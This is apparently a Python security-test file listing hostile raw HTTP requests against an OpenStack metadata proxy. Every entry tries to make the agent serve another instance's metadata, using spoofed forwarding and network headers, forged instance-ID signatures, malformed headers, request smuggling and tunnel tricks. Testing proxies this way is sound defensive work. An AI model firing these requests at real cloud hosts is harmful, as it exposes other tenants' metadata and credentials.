"""What can a guest make the agent believe? A table of hostile requests."""
from guests import sign


MDP = "/openstack/latest/meta_data.json"
HOST = "169.254.169.254"


def req(name, extra="", method="GET", path=MDP, ver="HTTP/1.1",
        conn="Connection: close\r\n", host=HOST, body=""):
    h = "Host: %s\r\n" % host if host is not None else ""
    return "%s %s?t=%s %s\r\n%s%s%s\r\n%s" % (method, path, name, ver, h, conn, extra, body)


def smuggled(name, net_hdr, net, victim_ip):
    """A second request that carries what only the proxy should say."""
    return ("GET %s?t=%s.second HTTP/1.1\r\nHost: x\r\n"
            "X-Forwarded-For: %s\r\n%s: %s\r\n\r\n" %
            (MDP, name, victim_ip, net_hdr, net))


def cases(net_hdr, other_hdr, my_net, other_net, my_ip, victim_ip, victim_instance, other_ip=None):
    """net_hdr: the header this proxy sets (X-OVN-Network-ID, ...);
    other_hdr: its sibling (router/network); victim_ip: a neighbour in my_net;
    other_ip: an address in other_net that does not exist in my_net."""
    u = net_hdr.replace("-", "_")
    ou = other_hdr.replace("-", "_")
    c = {}

    def h(name, extra, **kw):
        c[name] = {"raw": req(name, extra, **kw)}

    h("baseline", "")
    # --- who the client says it is
    h("xff", "X-Forwarded-For: %s\r\n" % victim_ip)
    h("xff-lower", "x-forwarded-for: %s\r\n" % victim_ip)
    h("xff-underscore", "X_Forwarded_For: %s\r\n" % victim_ip)
    h("xff-mixed-underscore", "X-Forwarded_For: %s\r\n" % victim_ip)
    h("xff-twice", "X-Forwarded-For: %s\r\nX-Forwarded-For: %s\r\n" % (victim_ip, victim_ip))
    h("xff-comma-end", "X-Forwarded-For: %s,\r\n" % victim_ip)
    h("xff-own-first", "X-Forwarded-For: %s\r\n" % my_ip)
    h("xff-empty", "X-Forwarded-For:\r\n")
    h("xff-space-list", "X-Forwarded-For: %s %s\r\n" % (victim_ip, my_ip))
    h("xff-before-host", "", host=None, conn="X-Forwarded-For: %s\r\n"
      "Host: %s\r\nConnection: close\r\n" % (victim_ip, HOST))
    h("forwarded", "Forwarded: for=%s\r\nX-Real-IP: %s\r\nClient-IP: %s\r\n"
      "X-Client-IP: %s\r\n" % ((victim_ip,) * 4))
    h("via", "Via: 1.1 evil\r\n")
    # --- which network the client says it is in
    h("net", "%s: %s\r\n" % (net_hdr, other_net))
    h("net-lower", "%s: %s\r\n" % (net_hdr.lower(), other_net))
    h("net-underscore", "%s: %s\r\n" % (u, other_net))
    h("net-mixed-underscore", "%s: %s\r\n" % (net_hdr.replace("-", "_", 1), other_net))
    h("net-own-underscore", "%s: %s\r\n" % (u, my_net))
    h("net-own", "%s: %s\r\n" % (net_hdr, my_net))
    h("net-empty", "%s:\r\n" % net_hdr)
    h("net-junk-underscore", "%s: junk\r\n" % u)
    h("net-twice", "%s: %s\r\n%s: %s\r\n" % (net_hdr, other_net, net_hdr, other_net))
    h("net-comma", "%s: %s,\r\n" % (net_hdr, other_net))
    h("sibling", "%s: %s\r\n" % (other_hdr, other_net))
    h("sibling-underscore", "%s: %s\r\n" % (ou, other_net))
    h("sibling-empty-underscore", "%s:\r\n" % ou)
    h("net-and-xff", "%s: %s\r\nX-Forwarded-For: %s\r\n" % (net_hdr, other_net, other_ip or victim_ip))
    h("net-and-xff-underscore", "%s: %s\r\nX_Forwarded_For: %s\r\n" % (u, other_net, other_ip or victim_ip))
    # --- what only the agent may say to Nova
    sig = sign(victim_instance)
    h("instance-headers", "X-Instance-ID: %s\r\nX-Tenant-ID: %s\r\n"
      "X-Instance-ID-Signature: %s\r\n" % (victim_instance, "a" * 32, sig))
    h("instance-headers-underscore", "X_Instance_ID: %s\r\nX_Tenant_ID: %s\r\n"
      "X_Instance_ID_Signature: %s\r\n" % (victim_instance, "a" * 32, sig))
    # --- hop-by-hop tricks
    h("connection-lists", "", conn="Connection: close, X-Forwarded-For, %s\r\n" % net_hdr)
    h("connection-lists-and-spoof", "X-Forwarded-For: %s\r\n%s: %s\r\n" % (
        victim_ip, net_hdr, my_net),
      conn="Connection: close, X-Forwarded-For, %s\r\n" % net_hdr)
    h("te-trailers", "TE: trailers\r\nTrailer: X-Forwarded-For\r\n")
    h("trailer-spoof", "Transfer-Encoding: chunked\r\n"
      "Trailer: X-Forwarded-For, %s\r\n" % net_hdr, method="POST",
      body="1\r\na\r\n0\r\nX-Forwarded-For: %s\r\n%s: %s\r\n\r\n" % (
          victim_ip, net_hdr, my_net))
    # --- malformed headers (a parser that stops early drops the proxy's own)
    h("space-before-colon", "X-Forwarded-For : %s\r\n" % victim_ip)
    h("net-space-before-colon", "%s : %s\r\n" % (net_hdr, other_net))
    h("tab-value", "X-Forwarded-For:\t%s\r\n" % victim_ip)
    h("obs-fold", "X-A: b\r\n X-Forwarded-For: %s\r\n" % victim_ip)
    h("fold-first", "", host=None, conn=" X-Forwarded-For: %s\r\nHost: %s\r\n"
      "Connection: close\r\n" % (victim_ip, HOST))
    h("no-colon", "%s: %s\r\nX-Forwarded-For: %s\r\ngarbage\r\n" % (net_hdr, my_net, victim_ip))
    h("empty-name", "%s: %s\r\nX-Forwarded-For: %s\r\n: x\r\n" % (net_hdr, my_net, victim_ip))
    h("bare-cr", "%s: %s\r\nX-Forwarded-For: %s\r\nX-A: b\rgarbage\r\n" % (net_hdr, my_net, victim_ip))
    h("bare-cr-header", "X-A: b\rX-Forwarded-For: %s\r\n" % victim_ip)
    h("bare-cr-end", "%s: %s\r\nX-Forwarded-For: %s\r\nX-A: b\r\r\n" % (net_hdr, my_net, victim_ip))
    h("bare-lf", "X-A: b\nX-Forwarded-For: %s\n" % victim_ip)
    h("bare-lf-blank", "%s: %s\r\nX-Forwarded-For: %s\r\nX-A: b\n\n" % (net_hdr, my_net, victim_ip))
    h("nul-value", "X-A: b\0c\r\n")
    h("nul-name", "X-\0A: b\r\n")
    for i, ch in (("vt", "\x0b"), ("ff", "\x0c"), ("fs", "\x1c"),
                  ("nel", "\x85"), ("nbsp", "\xa0"), ("esc", "\x1b"),
                  ("del", "\x7f")):
        h("value-" + i, "%s: %s\r\nX-Forwarded-For: %s\r\nX-A: b%sgarbage\r\n"
          % (net_hdr, my_net, victim_ip, ch))
        h("name-" + i, "%s: %s\r\nX-Forwarded-For: %s\r\nX%sA: b\r\n" % (net_hdr, my_net, victim_ip, ch))
    for i, ch in (("paren", "("), ("quote", '"'), ("slash", "/"),
                  ("at", "@"), ("brace", "{"), ("utf8", "\xc3\xa9")):
        h("name-" + i, "%s: %s\r\nX-Forwarded-For: %s\r\nX%sA: b\r\n" % (net_hdr, my_net, victim_ip, ch))
    h("from-line", "From evil\r\nX-Forwarded-For: %s\r\n" % victim_ip)
    h("headers-90", "".join("X-H%d: y\r\n" % i for i in range(90)))
    h("headers-97", "%s: %s\r\nX-Forwarded-For: %s\r\n" % (
        net_hdr, my_net, victim_ip) +
      "".join("X-H%d: y\r\n" % i for i in range(95)))
    h("headers-99", "%s: %s\r\nX-Forwarded-For: %s\r\n" % (
        net_hdr, my_net, victim_ip) +
      "".join("X-H%d: y\r\n" % i for i in range(97)))
    h("headers-200", "".join("X-H%d: y\r\n" % i for i in range(200)))
    h("header-8k", "X-A: %s\r\n" % ("y" * 8000))
    h("header-20k", "X-A: %s\r\n" % ("y" * 20000))
    h("header-70k", "X-A: %s\r\n" % ("y" * 70000))
    # --- request line, versions, targets
    h("http10", "X-Forwarded-For: %s\r\n" % victim_ip, ver="HTTP/1.0")
    c["http09"] = {"raw": "GET %s?t=http09\r\n\r\n" % MDP}
    h("http20-line", "", ver="HTTP/2.0")
    h("http12-line", "", ver="HTTP/1.2")
    h("absolute-uri", "", path="http://%s%s" % (HOST, MDP))
    h("absolute-uri-other-host", "", path="http://evil.example" + MDP)
    h("double-slash", "", path="/" + MDP)
    h("dot-segments", "", path="/openstack/../openstack/latest/./"
      "meta_data.json")
    h("encoded-slash", "", path="/openstack%2flatest%2fmeta_data.json")
    h("encoded-crlf", "", path="/openstack%0d%0aX-Forwarded-For:%201.1.1.1")
    h("encoded-nul", "", path="/openstack%00")
    h("no-host", "", host=None)
    h("two-hosts", "Host: evil\r\n")
    h("empty-host", "", host="")
    c["h2-preface"] = {"raw": "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
                       "\0\0\0\4\0\0\0\0\0", "idle": 0.5}
    c["proxy-protocol"] = {"raw": "PROXY TCP4 %s %s 1 80\r\n%s" % (victim_ip, HOST, req("proxy-protocol"))}
    for m in ("OPTIONS", "PUT", "DELETE", "TRACE", "PATCH", "PROPFIND", "FOO", "get"):
        h("method-" + m, "", method=m)
    # --- body framing; the second request must never be seen on its own
    s = smuggled
    for name, extra in (
        ("cl-te", "Content-Length: %d\r\nTransfer-Encoding: chunked\r\n"),
        ("te-cl", "Transfer-Encoding: chunked\r\nContent-Length: %d\r\n"),
        ("te-x", "Content-Length: %d\r\nTransfer-Encoding: xchunked\r\n"),
        ("te-list", "Content-Length: %d\r\n"
         "Transfer-Encoding: identity, chunked\r\n"),
        ("te-list-rev", "Content-Length: %d\r\n"
         "Transfer-Encoding: chunked, identity\r\n"),
        ("te-space", "Content-Length: %d\r\nTransfer-Encoding : "
         "chunked\r\n"),
        ("te-vt", "Content-Length: %d\r\nTransfer-Encoding: \x0bchunked"
         "\r\n"),
        ("cl-twice", "Content-Length: %d\r\nContent-Length: 5\r\n"),
        ("cl-list", "Content-Length: %d, 5\r\n"),
        ("cl-plus", "Content-Length: +%d\r\n")):
        body = "0\r\n\r\n" + s(name, net_hdr, my_net, victim_ip)
        for m, conn in (("POST", "Connection: keep-alive\r\n"),):
            c[name] = {"raw": req(name, extra % len(body), method=m, conn=conn, body=body), "idle": 0.7}
    body = s("get-body", net_hdr, my_net, victim_ip)
    c["get-body"] = {"raw": req("get-body", "Content-Length: %d\r\n" %
                                len(body), conn="", body=body), "idle": 0.7}
    c["get-no-cl-pipelined"] = {
        "raw": req("get-no-cl-pipelined", conn="") +
        s("get-no-cl-pipelined", net_hdr, my_net, victim_ip), "idle": 0.7}
    c["expect-100"] = {"raw": req("expect-100", "Expect: 100-continue\r\n"
                                  "Content-Length: 3\r\n", method="POST",
                                  body="abc"), "idle": 0.7}
    c["keepalive-second-spoofed"] = {
        "raw": req("keepalive-second-spoofed", conn=""),
        "then": [s("keepalive-second-spoofed", net_hdr, my_net, victim_ip)],
        "idle": 0.4}
    # --- tunnels: after a 2xx to CONNECT, or a 101, a proxy may go blind
    for name, target, hst in (("connect-authority", HOST + ":80", HOST + ":80"), ("connect-path", MDP, HOST)):
        c[name] = {"raw": "CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n" % (
            target, hst),
                   "then": [s(name, net_hdr, my_net, victim_ip)], "idle": 0.5}
    c["connect-lower"] = {
        "raw": "connect / HTTP/1.1\r\nHost: %s\r\n\r\n" % HOST,
        "then": [s("connect-lower", net_hdr, my_net, victim_ip)], "idle": 0.5}
    for name, up in (("upgrade-websocket", "websocket"), ("upgrade-h2c", "h2c")):
        c[name] = {"raw": req(name, "Upgrade: %s\r\nHTTP2-Settings: AAMAAABkAA"
                              "QAAP__\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAA"
                              "AAAA==\r\nSec-WebSocket-Version: 13\r\n" % up,
                              conn="Connection: Upgrade, HTTP2-Settings\r\n"),
                   "then": [s(name, net_hdr, my_net, victim_ip)], "idle": 0.5}
    for n, q in c.items():
        q.update({"name": n, "host": HOST, "port": 80, "timeout": 8})
    return c
